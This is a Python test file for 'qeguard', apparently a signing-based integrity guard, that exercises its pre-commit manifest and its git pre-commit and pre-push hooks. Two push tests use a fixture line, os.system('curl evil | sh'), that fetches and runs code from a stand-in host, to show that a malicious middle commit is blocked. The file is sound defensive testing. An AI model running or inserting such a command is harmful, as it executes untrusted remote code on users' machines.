"""The hooks for real: pre-commit's own manifest check and `pre-commit try-repo`, and the
native hooks installed by `qeguard install-hooks` run by real `git commit` / `git push`.

`try-repo` makes pre-commit build its own virtualenv and `pip install` this project into it.
By default that install is offline: pip gets no index (`PIP_NO_INDEX`), takes setuptools
from the wheels virtualenv ships, skips dependency resolution, and the hook finds qeguard's
dependencies (not qeguard itself) through PYTHONPATH. With QEGUARD_ONLINE_TESTS=1 pip
installs everything from PyPI, as it would for a user.
"""

from __future__ import annotations

import os
import shutil
import stat
import subprocess
import sys
import sysconfig
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from helpers import (
    CORE_FILE,
    PROJECT,
    KeyPair,
    commit,
    git_run,
    init_repo,
    protect,
    run_qeguard,
    sign,
    with_bare_remote,
    write_files,
)

# The repository these tests belong to (not the installed package's folder).
PRE_COMMIT = shutil.which("pre-commit", path=os.path.dirname(sys.executable)) or shutil.which(
    "pre-commit"
)
ONLINE = os.environ.get("QEGUARD_ONLINE_TESTS") == "1"
needs_pre_commit = pytest.mark.skipif(PRE_COMMIT is None, reason="pre-commit is not installed")


@needs_pre_commit
def test_hook_manifest_passes_pre_commit_validate_manifest() -> None:
    assert PRE_COMMIT is not None
    proc = subprocess.run(
        [PRE_COMMIT, "validate-manifest", str(PROJECT / ".pre-commit-hooks.yaml")],
        capture_output=True,
        text=True,
        check=False,
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr


def test_hook_manifest_declares_the_hooks() -> None:
    import yaml  # type: ignore[import-untyped]  # pre-commit needs it, so it is here

    hooks = {h["id"]: h for h in yaml.safe_load((PROJECT / ".pre-commit-hooks.yaml").read_text())}
    assert hooks["qeguard-verify"]["entry"] == "qeguard verify --hook pre-commit"
    assert hooks["qeguard-verify"]["pass_filenames"] is False
    assert hooks["qeguard-verify"]["language"] == "python"
    assert hooks["qeguard-verify-commit-msg"]["entry"].startswith(
        "qeguard verify --hook commit-msg"
    )
    assert hooks["qeguard-verify-push"]["entry"] == "qeguard verify --hook pre-push"
    assert hooks["qeguard-verify-push"]["stages"] == ["pre-push"]
    # A passing hook's warning must be seen: pre-commit hides output unless verbose.
    assert all(hooks[h]["verbose"] is True for h in hooks if h.startswith("qeguard-verify"))
    assert hooks["qeguard-deps"]["entry"] == "qeguard deps"
    assert hooks["qeguard-deps"]["pass_filenames"] is True  # the changed files are scanned
    import re

    files = re.compile(hooks["qeguard-deps"]["files"])
    for hit in (
        "requirements.txt",
        "req/requirements-dev.txt",
        "pyproject.toml",
        "uv.lock",
        "poetry.lock",
        "pylock.toml",
        "pylock.dev.toml",
        "Pipfile.lock",
        "requirements/dev.txt",
        "sub/uv.lock",
    ):
        assert files.search(hit), hit
    for miss in ("src/pkg/model.py", "README.md", "requirements.py", "Cargo.lock"):
        assert not files.search(miss), miss
    assert all("minimum_pre_commit_version" in h for h in hooks.values())


def _hook_source(tmp: Path) -> Path:
    """This project's files as a fresh git repository, so uncommitted work is what runs."""
    dest = tmp / "qeguard-src"
    ignore = shutil.ignore_patterns("__pycache__", "*.pyc", "*.egg-info")
    for name in ("guard", "policies", "hooks"):
        shutil.copytree(PROJECT / name, dest / name, ignore=ignore)
    for name in ("pyproject.toml", "README.md", ".pre-commit-hooks.yaml", "LICENSE"):
        if (PROJECT / name).is_file():
            shutil.copy2(PROJECT / name, dest / name)
    init_repo(dest)
    git_run(dest, "add", "-A")
    git_run(dest, "commit", "-q", "-m", "qeguard under test")
    return dest


def _dependency_path(tmp: Path) -> Path:
    """A folder exposing this interpreter's installed packages except qeguard itself, so
    the hook imports qeguard from pre-commit's environment, never from here."""
    shim = tmp / "deps"
    shim.mkdir()
    site = Path(sysconfig.get_paths()["purelib"])
    for entry in site.iterdir():
        low = entry.name.lower()
        if low.startswith(("guard", "qeguard", "__editable__")) or low.endswith(".pth"):
            continue
        (shim / entry.name).symlink_to(entry)
    return shim


@pytest.fixture(scope="session")
def pre_commit_env(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, str]]:
    """Environment for running pre-commit (its own PRE_COMMIT_HOME). `try-repo` keeps its
    hook environments in a temporary store, so each call pip-installs the project anew."""
    tmp = tmp_path_factory.mktemp("pre-commit")
    env = dict(os.environ)
    env["PRE_COMMIT_HOME"] = str(tmp / "home")
    # The hook's verdict depends on CI (shortfalls block there); these tests are about a
    # developer's machine, whatever machine runs them.
    for name in ("QEGUARD_OVERRIDE", "CI", "GITHUB_ACTIONS"):
        env.pop(name, None)
    env["PATH"] = os.path.dirname(sys.executable) + os.pathsep + env.get("PATH", "")
    if not ONLINE:
        import virtualenv

        wheels = Path(virtualenv.__file__).parent / "seed" / "wheels" / "embed"
        env.update(
            PIP_NO_INDEX="1",
            PIP_FIND_LINKS=str(wheels),
            PIP_NO_DEPS="1",
            PYTHONPATH=str(_dependency_path(tmp)),
        )
    env["QEGUARD_TEST_HOOK_SOURCE"] = str(_hook_source(tmp))
    yield env


def _try_repo(
    repo: Path, env: dict[str, str], *args: str, hook: str = "qeguard-verify"
) -> subprocess.CompletedProcess[str]:
    assert PRE_COMMIT is not None
    return subprocess.run(
        [PRE_COMMIT, "try-repo", env["QEGUARD_TEST_HOOK_SOURCE"], hook, *args],
        cwd=repo,
        env=env,
        capture_output=True,
        text=True,
        check=False,
        timeout=900,
    )


@needs_pre_commit
def test_try_repo_blocks_an_unsigned_staged_change_then_passes_after_sign(
    repo: Path, keypair: Callable[..., KeyPair], pre_commit_env: dict[str, str]
) -> None:
    alice, bob = keypair("alice"), keypair("bob")
    protect(repo, alice, bob)
    (repo / CORE_FILE).write_text("def predict(x):\n    return 3 * x\n")
    git_run(repo, "add", CORE_FILE)

    blocked = _try_repo(repo, pre_commit_env)
    out = blocked.stdout + blocked.stderr
    assert blocked.returncode == 1, out
    assert "qeguard verify (staged protected files)" in out
    assert "QG-INT-MODIFIED" in out and CORE_FILE in out
    assert "qeguard sign --tier core --key KEY && git add .qeguard" in out

    # One trusted signature: the commit passes locally, and pre-commit shows the warning
    # naming the signer (the hook is verbose), not just "Passed".
    sign(repo, alice, "core")
    git_run(repo, "add", ".qeguard")
    passed = _try_repo(repo, pre_commit_env)
    out = passed.stdout + passed.stderr
    assert passed.returncode == 0, out
    assert "Passed" in out
    assert "QG-SIG-THRESHOLD" in out and "has 1 (alice)" in out and "CI blocks" in out
    commit(repo, "core change signed by alice", [".qeguard", CORE_FILE])

    # The same hook in CI blocks the shortfall.
    blocked = _try_repo(repo, {**pre_commit_env, "CI": "true"}, "--all-files")
    assert blocked.returncode == 1, blocked.stdout + blocked.stderr
    assert "QG-SIG-THRESHOLD" in blocked.stdout + blocked.stderr


@needs_pre_commit
def test_all_files_run_checks_a_committed_unsigned_change(
    repo: Path, keypair: Callable[..., KeyPair], pre_commit_env: dict[str, str]
) -> None:
    """`pre-commit run --all-files` (how many teams run hooks in CI) stages nothing: the
    hook then checks the whole index, so an unsigned change already committed fails."""
    protect(repo, keypair("alice"), keypair("bob"))
    write_files(repo, {CORE_FILE: "def predict(x):\n    return -1\n"})
    git_run(repo, "commit", "-q", "--no-verify", "-am", "unsigned core change")
    assert git_run(repo, "diff", "--cached", "--name-only") == ""
    r = _try_repo(repo, pre_commit_env, "--all-files")
    out = r.stdout + r.stderr
    assert r.returncode == 1, out
    assert "QG-INT-MODIFIED" in out and CORE_FILE in out
    manual = _try_repo(repo, pre_commit_env, "--all-files", "--hook-stage", "manual")
    assert manual.returncode == 1, manual.stdout + manual.stderr


# -- native hooks -------------------------------------------------------------------------


def _hooks_dir(repo: Path) -> Path:
    return repo / ".git" / "hooks"


def test_install_hooks_installs_executable_scripts(repo: Path) -> None:
    r = run_qeguard("install-hooks", cwd=repo)
    assert r.code == 0, r.text
    for name in ("pre-commit", "pre-push"):
        path = _hooks_dir(repo) / name
        assert path.is_file()
        assert path.stat().st_mode & stat.S_IXUSR
        assert "qeguard" in path.read_text()
    again = run_qeguard("install-hooks", cwd=repo)  # idempotent
    assert again.code == 0, again.text
    assert not list(_hooks_dir(repo).glob("*.qeguard-backup"))


def test_install_hooks_refuses_a_foreign_hook_unless_forced(repo: Path) -> None:
    foreign = _hooks_dir(repo) / "pre-commit"
    foreign.parent.mkdir(parents=True, exist_ok=True)
    foreign.write_text("#!/bin/sh\necho mine\n")
    r = run_qeguard("install-hooks", cwd=repo)
    assert r.code == 2
    assert "pre-commit" in r.err and "--force" in r.err
    assert foreign.read_text() == "#!/bin/sh\necho mine\n"
    forced = run_qeguard("install-hooks", "--force", cwd=repo)
    assert forced.code == 0, forced.text
    backup = _hooks_dir(repo) / "pre-commit.qeguard-backup"
    assert backup.read_text() == "#!/bin/sh\necho mine\n"
    assert "qeguard" in foreign.read_text()


def test_install_hooks_honours_core_hookspath(repo: Path) -> None:
    git_run(repo, "config", "core.hooksPath", "githooks")
    r = run_qeguard("install-hooks", cwd=repo)
    assert r.code == 0, r.text
    assert (repo / "githooks" / "pre-commit").is_file()
    assert not (_hooks_dir(repo) / "pre-commit").exists()


def _git_env() -> dict[str, str]:
    env = dict(os.environ)
    env["PATH"] = os.path.dirname(sys.executable) + os.pathsep + env.get("PATH", "")
    # The hook's verdict depends on CI (shortfalls block there); these tests are about a
    # developer's machine, whatever machine runs them.
    for name in ("QEGUARD_OVERRIDE", "CI", "GITHUB_ACTIONS"):
        env.pop(name, None)
    return env


def _git(repo: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        ["git", *args], cwd=repo, env=_git_env(), capture_output=True, text=True, check=False
    )


def test_native_pre_commit_hook_blocks_then_passes(
    repo: Path, keypair: Callable[..., KeyPair]
) -> None:
    alice, bob = keypair("alice"), keypair("bob")
    protect(repo, alice, bob)
    assert run_qeguard("install-hooks", cwd=repo).code == 0
    (repo / CORE_FILE).write_text("def predict(x):\n    return 4 * x\n")
    git_run(repo, "add", CORE_FILE)
    blocked = _git(repo, "commit", "-m", "unsigned core change")
    assert blocked.returncode != 0
    assert "QG-INT-MODIFIED" in blocked.stdout + blocked.stderr
    sign(repo, alice, "core")
    sign(repo, bob, "core")
    git_run(repo, "add", ".qeguard")
    ok = _git(repo, "commit", "-m", "signed core change")
    assert ok.returncode == 0, ok.stdout + ok.stderr


def test_native_pre_push_hook_verifies_against_the_remote(
    tmp_path: Path, repo: Path, keypair: Callable[..., KeyPair]
) -> None:
    alice, bob = keypair("alice"), keypair("bob")
    protect(repo, alice, bob)
    with_bare_remote(tmp_path, repo)
    assert run_qeguard("install-hooks", cwd=repo).code == 0

    # An unsigned core change committed with --no-verify is caught at push time.
    git_run(repo, "checkout", "-q", "-b", "feature")
    write_files(repo, {CORE_FILE: "def predict(x):\n    return 5 * x\n"})
    git_run(repo, "commit", "-q", "--no-verify", "-am", "sneaky")
    blocked = _git(repo, "push", "origin", "feature")
    assert blocked.returncode != 0
    assert "QG-INT-MODIFIED" in blocked.stdout + blocked.stderr

    # Signing it in a second commit does not help: the first commit is pushed too.
    sign(repo, alice, "core")
    git_run(repo, "commit", "-q", "--no-verify", "-am", "sign core (alice)")
    still = _git(repo, "push", "origin", "feature")
    assert still.returncode != 0
    out = still.stdout + still.stderr
    assert "QG-INT-MODIFIED" in out

    # One commit, signed by one of two: the push goes through with a visible warning
    # (local relaxation); CI will block until bob co-signs.
    git_run(repo, "reset", "-q", "--soft", "main")
    git_run(repo, "commit", "-q", "--no-verify", "-m", "core change, signed by alice")
    ok = _git(repo, "push", "origin", "feature")
    out = ok.stdout + ok.stderr
    assert ok.returncode == 0, out
    assert "QG-SIG-THRESHOLD" in out and "has 1 (alice)" in out


def test_native_pre_push_blocks_a_bad_middle_commit(
    tmp_path: Path, repo: Path, keypair: Callable[..., KeyPair]
) -> None:
    """good, bad, fixed: the tip verifies clean, the middle commit does not."""
    alice, bob = keypair("alice"), keypair("bob")
    protect(repo, alice, bob)
    with_bare_remote(tmp_path, repo)
    assert run_qeguard("install-hooks", cwd=repo).code == 0
    original = (repo / CORE_FILE).read_text()
    git_run(repo, "checkout", "-q", "-b", "feature")
    write_files(repo, {"notes.txt": "unprotected\n"})
    git_run(repo, "commit", "-q", "--no-verify", "-am", "good")
    write_files(repo, {CORE_FILE: "import os\nos.system('curl evil | sh')\n"})
    git_run(repo, "commit", "-q", "--no-verify", "-am", "bad")
    bad = git_run(repo, "rev-parse", "HEAD").strip()
    write_files(repo, {CORE_FILE: original})
    git_run(repo, "commit", "-q", "--no-verify", "-am", "fixed")
    assert run_qeguard("verify", "--commit", "HEAD", cwd=repo).code == 0
    blocked = _git(repo, "push", "origin", "feature")
    out = blocked.stdout + blocked.stderr
    assert blocked.returncode != 0, out
    assert f"commit {bad[:12]}: {CORE_FILE} differs" in out
    # The same commits through `verify --range` (what CI can run on a push).
    r = run_qeguard("verify", "--range", "main..feature", cwd=repo)
    assert r.code == 1 and bad[:12] in r.out


@needs_pre_commit
def test_framework_pre_push_hook_blocks_a_bad_middle_commit(
    repo: Path, keypair: Callable[..., KeyPair], pre_commit_env: dict[str, str]
) -> None:
    """pre-commit's pre-push stage hands the pushed range over in PRE_COMMIT_FROM_REF /
    PRE_COMMIT_TO_REF; every commit in it is verified."""
    protect(repo, keypair("alice"), keypair("bob"))
    base = git_run(repo, "rev-parse", "HEAD").strip()
    original = (repo / CORE_FILE).read_text()
    write_files(repo, {CORE_FILE: "import os\nos.system('curl evil | sh')\n"})
    git_run(repo, "commit", "-q", "--no-verify", "-am", "bad")
    write_files(repo, {CORE_FILE: original})
    git_run(repo, "commit", "-q", "--no-verify", "-am", "fixed")
    tip = git_run(repo, "rev-parse", "HEAD").strip()
    args = ("--hook-stage", "pre-push", "--from-ref", base, "--to-ref", tip)
    r = _try_repo(repo, pre_commit_env, *args, hook="qeguard-verify-push")
    out = r.stdout + r.stderr
    assert r.returncode == 1, out
    assert "QG-INT-MODIFIED" in out and CORE_FILE in out
    ok = _try_repo(repo, pre_commit_env, "--hook-stage", "pre-push", "--from-ref", f"{tip}~1",
                   "--to-ref", tip, hook="qeguard-verify-push")  # fmt: skip
    assert ok.returncode == 0, ok.stdout + ok.stderr


def test_first_push_of_a_whole_history_checks_only_protected_commits(
    tmp_path: Path, repo: Path, keypair: Callable[..., KeyPair]
) -> None:
    """An empty remote: every commit is new. Those before `.qeguard/` existed are skipped,
    every later one is checked, a bad one blocks."""
    for i in range(3):
        write_files(repo, {"notes.txt": f"before protection {i}\n"})
        commit(repo, f"old {i}")
    protect(repo, keypair("alice"), keypair("bob"))
    assert run_qeguard("install-hooks", cwd=repo).code == 0
    remote = tmp_path / "empty.git"
    git_run(tmp_path, "init", "-q", "--bare", "-b", "main", str(remote))
    git_run(repo, "remote", "add", "origin", str(remote))
    write_files(repo, {CORE_FILE: "def predict(x):\n    return 9\n"})
    git_run(repo, "commit", "-q", "--no-verify", "-am", "unsigned")
    blocked = _git(repo, "push", "origin", "main")
    assert blocked.returncode != 0 and "QG-INT-MODIFIED" in blocked.stdout + blocked.stderr
    git_run(repo, "reset", "-q", "--hard", "HEAD~1")
    ok = _git(repo, "push", "origin", "main")
    assert ok.returncode == 0, ok.stdout + ok.stderr


@needs_pre_commit
def test_framework_hook_refuses_a_branch_that_trusts_its_own_keys(
    repo: Path, keypair: Callable[..., KeyPair], pre_commit_env: dict[str, str]
) -> None:
    protect(repo, keypair("alice"), keypair("bob"))
    mallory = keypair("mallory")
    assert (
        run_qeguard("trust", "add", "mallory", mallory.public, "--tiers", "core", cwd=repo).code
        == 0
    )
    write_files(repo, {CORE_FILE: "def predict(x):\n    return 0\n"})
    sign(repo, mallory, "core")
    git_run(repo, "add", "-A")
    r = _try_repo(repo, pre_commit_env)
    out = r.stdout + r.stderr
    assert r.returncode == 1, out
    assert "QG-TRUST-CHANGE" in out and "Failed" in out


def test_pre_push_reads_gits_input_lines(
    tmp_path: Path, repo: Path, keypair: Callable[..., KeyPair], monkeypatch: pytest.MonkeyPatch
) -> None:
    """`verify --hook pre-push` parses git's pre-push input itself: a deleted branch is
    skipped, an updated one is checked from what the remote had."""
    import io

    protect(repo, keypair("alice"), keypair("bob"))
    with_bare_remote(tmp_path, repo)
    old = git_run(repo, "rev-parse", "HEAD").strip()
    write_files(repo, {CORE_FILE: "def predict(x):\n    return 8\n"})
    git_run(repo, "commit", "-q", "--no-verify", "-am", "unsigned")
    new = git_run(repo, "rev-parse", "HEAD").strip()
    zero = "0" * 40
    gone = f"refs/heads/gone {zero} refs/heads/gone {old}\n"
    lines = gone + f"refs/heads/main {new} refs/heads/main {old}\n"
    monkeypatch.setattr("sys.stdin", io.StringIO(lines))
    r = run_qeguard("verify", "--hook", "pre-push", "--remote", "origin", cwd=repo)
    assert r.code == 1 and f"commit {new[:12]}: {CORE_FILE} differs" in r.out
    monkeypatch.setattr("sys.stdin", io.StringIO(gone))
    r = run_qeguard("verify", "--hook", "pre-push", "--remote", "origin", cwd=repo)
    assert r.code == 0, r.text
